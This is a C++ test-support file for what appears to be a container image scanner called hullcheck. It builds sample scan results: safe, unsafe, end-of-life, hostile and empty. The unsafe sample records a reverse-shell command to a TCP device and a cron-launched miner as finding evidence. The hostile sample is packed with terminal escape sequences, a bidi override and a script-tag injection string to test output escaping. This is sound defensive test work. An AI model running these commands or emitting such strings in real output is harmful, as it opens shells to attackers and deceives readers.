#include "support/sample_results.hpp"

#include <fmt/format.h>

#include <chrono>

#include "policy/policy.hpp"

namespace hullcheck::test {
namespace {

using model::Finding;
using model::FindingKind;
using model::GapEffect;
using model::ScanResult;
using model::Severity;
using model::StageState;
using model::ThreatLevel;
using model::Visibility;
using model::Vulnerability;

constexpr auto k_now = std::chrono::sys_days{std::chrono::year{2026} / 8 / 5};

std::string digest(char fill) { return "sha256:" + std::string(64, fill); }

ScanResult debian(std::string reference, std::string version, std::string codename) {
  ScanResult result;
  result.target = reference;
  result.image.reference = std::move(reference);
  result.image.source = "docker";
  result.image.platform = "linux/amd64";
  result.image.config_digest = digest('c');
  for (const char fill : {'1', '2', '3'})
    result.layers.push_back({digest(fill), digest(static_cast<char>(fill + 4)),
                             "application/vnd.oci.image.layer.v1.tar+gzip", 31'000'000, 4200,
                             "RUN /bin/sh -c apt-get install", true});
  result.distribution = {
      "debian", "", version, codename, fmt::format("Debian GNU/Linux {} ({})", version, codename), "etc/os-release"};
  for (const char* stage : {"layers", "packages", "advisories", "malware", "secrets", "checks"})
    result.coverage.stages[stage] = StageState::assessed;
  result.coverage.complete = true;
  result.coverage.executable_bytes = 120'000'000;
  result.coverage.attributed_bytes = 120'000'000;
  result.database.present = true;
  result.database.digest = digest('d');
  result.database.built = "2026-08-04T06:00:00Z";
  result.database.sources = {{"debian", "2026-08-04T05:58:00Z", "2026-08-03", 210'000, true, false},
                             {"kev", "2026-08-04T05:59:00Z", "2026-08-01", 1400, true, false}};
  result.scanned_at = "2026-08-05T02:00:00Z";
  result.timings = {{"layers", 812.5}, {"match", 11.25}};
  for (const char* name : {"libfreetype6", "libssl3", "openssl", "tomcat9"}) {
    model::Package package;
    package.type = "deb";
    package.name = name;
    package.version = "1.0-1";
    package.architecture = "amd64";
    package.source_name = name;
    package.source_version = "1.0-1";
    package.licenses = {"MIT"};
    package.database_path = "var/lib/dpkg/status";
    package.layer = 1;
    package.files.resize(3);
    result.packages.push_back(std::move(package));
  }
  return result;
}

ScanResult safe_result() {
  ScanResult result = debian("shop/frontend:2.4", "13", "trixie");
  result.vulnerabilities.push_back(sample_flaw("CVE-2026-1111", "libssl3", "3.5.1-1", "", Severity::medium));
  result.checks.push_back(
      sample_finding(FindingKind::check, "no-healthcheck", "No HEALTHCHECK", "config:Healthcheck"));
  result.coverage.gaps.push_back({"unfixed-not-assessed", "advisories", "Debian:13",
                                  "unfixed flaws not assessed: the data knows fixed ones only", GapEffect::note});
  return result;
}

void add_flaws(ScanResult& result) {
  Vulnerability freetype =
      sample_flaw("CVE-2025-27363", "libfreetype6", "2.10.4+dfsg-1", "2.10.4+dfsg-1+deb11u2", Severity::high);
  freetype.known_exploited = true;
  freetype.known_exploited_since = "2025-05-06";
  freetype.cvss_score = 8.1;
  freetype.cvss_vector = "CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:H/I:H/A:H";
  freetype.aliases = {"DSA-5880-1"};
  Vulnerability tomcat =
      sample_flaw("CVE-2025-24813", "tomcat9", "9.0.43-2~deb11u3", "9.0.43-2~deb11u12", Severity::critical);
  tomcat.known_exploited = true;
  tomcat.known_exploited_since = "2025-04-01";
  result.vulnerabilities = {freetype, tomcat};
  for (const char* package : {"libssl1.1", "libssl-dev", "openssl"}) {
    result.vulnerabilities.push_back(
        sample_flaw("CVE-2022-1292", package, "1.1.1n-0", "1.1.1n-0+deb11u2", Severity::critical));
    result.vulnerabilities.back().source_name = "openssl";
  }
  for (int i = 0; i < 60; ++i) {
    const auto severity = static_cast<Severity>(i % 5);
    result.vulnerabilities.push_back(sample_flaw(fmt::format("CVE-2023-{}", 20'000 + i),
                                                 fmt::format("package{}", i % 7), "1.2.3-4",
                                                 i % 2 == 0 ? "1.2.3-4+deb11u1" : "", severity));
    if (severity == Severity::unrated) ++result.coverage.unrated;
  }
}

ScanResult unsafe_result() {
  ScanResult result = debian("registry.example/team/app:1.19", "11", "bullseye");
  result.image.source = "registry";
  result.image.manifest_digest = digest('a');
  add_flaws(result);
  Finding shell =
      sample_finding(FindingKind::threat, "B01", "Shell redirected to a TCP device", "usr/local/bin/start.sh");
  shell.locations[0].line = 12;
  shell.severity = Severity::critical;
  shell.level = ThreatLevel::malicious;
  shell.technique = "T1059.004";
  shell.chain = {"Entrypoint", "/entry.sh:3", "/usr/local/bin/start.sh:12"};
  shell.evidence = {"bash -i >& /dev/tcp/192.0.2.10/4444 0>&1"};
  shell.remediation = "Do not run this image; whoever listens at the address gets a shell in the container";
  Finding cron = sample_finding(FindingKind::threat, "P01", "Cron entry written by a script", "etc/cron.d/sync");
  cron.severity = Severity::high;
  cron.level = ThreatLevel::suspicious;
  cron.locations[0].visibility = Visibility::deleted;
  cron.evidence = {"* * * * * root /tmp/.x/kworker -o pool.example:3333"};
  result.threats = {shell, cron};
  Finding key =
      sample_finding(FindingKind::secret, "private-key", "Private key (RSA, 2048 bits)", "root/.ssh/id_rsa");
  key.severity = Severity::high;
  key.level = ThreatLevel::risky;
  key.locations[0].visibility = Visibility::deleted;
  key.evidence = {"-----BEGIN RSA PRIVATE KEY----- (masked)"};
  key.remediation = "Replace the key everywhere; a later layer that deletes it does not take it back";
  Finding snakeoil = sample_finding(FindingKind::secret, "private-key", "Private key (published test key)",
                                    "etc/ssl/private/ssl-cert-snakeoil.key");
  result.secrets = {key, snakeoil};
  result.checks = {
      sample_finding(FindingKind::check, "root-user", "Runs as root", "config:User"),
      sample_finding(FindingKind::check, "setuid-unowned", "Setuid file that no package owns", "usr/local/bin/su")};
  result.checks[1].severity = Severity::high;
  result.warnings = {sample_finding(FindingKind::warning, "D04", "URL with a bare address", "opt/app/run.py")};
  result.warnings[0].level = ThreatLevel::risky;
  result.end_of_life = true;
  result.end_of_life_date = "2024-08-14";
  result.coverage.complete = false;
  result.coverage.attributed_bytes = 117'000'000;
  result.coverage.unattributed = {"usr/local/bin/app", "usr/local/bin/su"};
  result.coverage.unattributed_files = {{"usr/local/bin/app", 2'900'000, "sha256:" + std::string(64, '1'), ""},
                                        {"usr/local/bin/su", 100'000, "", ""}};
  result.coverage.unattributed_count = 2;
  result.coverage.stages["advisories"] = StageState::partial;
  result.coverage.gaps = {
      {"end-of-life", "advisories", "debian 11", "debian 11 gets no security updates since 2024-08-14",
       GapEffect::unknown},
      {"unfixed-not-assessed", "advisories", "Debian:11", "unfixed flaws not assessed", GapEffect::note}};
  return result;
}

ScanResult unknown_result() {
  ScanResult result = debian("alpine:3.10", "3.10.4", "");
  result.distribution = {"alpine", "", "3.10.4", "", "Alpine Linux v3.10", "etc/os-release"};
  result.end_of_life = true;
  result.end_of_life_date = "2021-05-01";
  result.database = {};
  result.coverage.complete = false;
  result.coverage.stages["advisories"] = StageState::absent;
  result.coverage.gaps = {{"end-of-life", "advisories", "alpine 3.10",
                           "alpine 3.10 gets no security updates since 2021-05-01", GapEffect::unknown},
                          {"no-advisory-database", "advisories", "", "there is no advisory database on this machine",
                           GapEffect::unknown}};
  return result;
}

// Escape sequences, bidi overrides, bytes that are no text, markup and line breaks wherever an image has its say.
ScanResult hostile_result() {
  const std::string evil =
      "\x1b[2J\x1b]0;SAFE\x07\r\nSAFE  innocent \xe2\x80\xae"
      "fdp.exe\xff\xc0\x80 <script>alert(1)</script>";
  ScanResult result = unsafe_result();
  result.target = evil;
  result.image.reference = evil;
  result.image.platform = evil;
  result.distribution = {evil, evil, evil, evil, evil, evil};
  for (model::LayerSummary& layer : result.layers) layer.created_by = evil;
  for (auto* findings : {&result.threats, &result.secrets, &result.checks, &result.warnings})
    for (Finding& finding : *findings) {
      finding.title = evil;
      finding.rule = evil;
      for (model::Location& location : finding.locations) location.path = evil;
      finding.evidence = {evil, std::string(5000, 'A')};
      finding.chain = {"Entrypoint", evil};
      finding.remediation = evil;
    }
  for (Vulnerability& flaw : result.vulnerabilities) {
    flaw.package = evil;
    flaw.package_version = evil;
    flaw.advisory = evil;
    flaw.link = "https://example.org/\x1b]8;;\x07" + evil;
    flaw.fixed_version = evil;
    flaw.title = evil;
    flaw.location.path = evil;
  }
  for (model::Gap& gap : result.coverage.gaps) gap.subject = gap.reason = evil;
  for (model::Package& package : result.packages) package.name = package.version = package.vendor = evil;
  result.coverage.unattributed = {evil};
  result.coverage.unattributed_files = {{evil, 1, evil, evil}};
  return result;
}

ScanResult empty_result() {
  ScanResult result;
  result.target = "archive:broken.tar";
  result.image.reference = "broken.tar";
  result.image.source = "archive";
  for (const char* stage : {"layers", "packages", "advisories", "malware", "secrets", "checks"})
    result.coverage.stages[stage] = StageState::absent;
  result.coverage.gaps = {{"layer-missing", "layers", digest('9'),
                           "the archive names this layer and does not hold it", GapEffect::unknown}};
  return result;
}

}  // namespace

Vulnerability sample_flaw(std::string advisory, std::string package, std::string version, std::string fixed,
                          Severity severity) {
  Vulnerability flaw;
  flaw.id = model::finding_id(advisory, package, version, "");
  flaw.link = "https://security-tracker.debian.org/tracker/" + advisory;
  flaw.advisory = std::move(advisory);
  flaw.purl = fmt::format("pkg:deb/debian/{}@{}", package, version);
  flaw.source_name = package;
  flaw.package = std::move(package);
  flaw.package_version = std::move(version);
  flaw.architecture = "amd64";
  flaw.severity = severity;
  if (severity != Severity::unrated) flaw.severity_source = "debian";
  flaw.fixed_version = std::move(fixed);
  flaw.feed = "debian";
  flaw.ecosystem = "Debian:11";
  flaw.published = "2025-03-11";
  flaw.location = {"var/lib/dpkg/status", digest('2'), Visibility::final, 0};
  return flaw;
}

Finding sample_finding(FindingKind kind, std::string rule, std::string title, std::string path) {
  Finding finding;
  finding.id = model::finding_id(rule, path, "", "");
  finding.rule = std::move(rule);
  finding.kind = kind;
  finding.title = std::move(title);
  finding.severity = Severity::low;
  finding.confidence = 90;
  const bool config = path.compare(0, 7, "config:") == 0;
  finding.locations = {
      {std::move(path), config ? "" : digest('3'), config ? Visibility::config : Visibility::final, 0}};
  return finding;
}

std::vector<Sample> sample_results() {
  std::vector<Sample> samples{{"safe", safe_result()},
                              {"unsafe", unsafe_result()},
                              {"unknown", unknown_result()},
                              {"hostile", hostile_result()},
                              {"empty", empty_result()}};
  for (Sample& sample : samples) policy::apply(policy::built_in(), k_now, sample.result);
  return samples;
}

ScanResult sample_result(std::string_view name) {
  for (Sample& sample : sample_results())
    if (sample.name == name) return std::move(sample.result);
  return {};
}

}  // namespace hullcheck::test
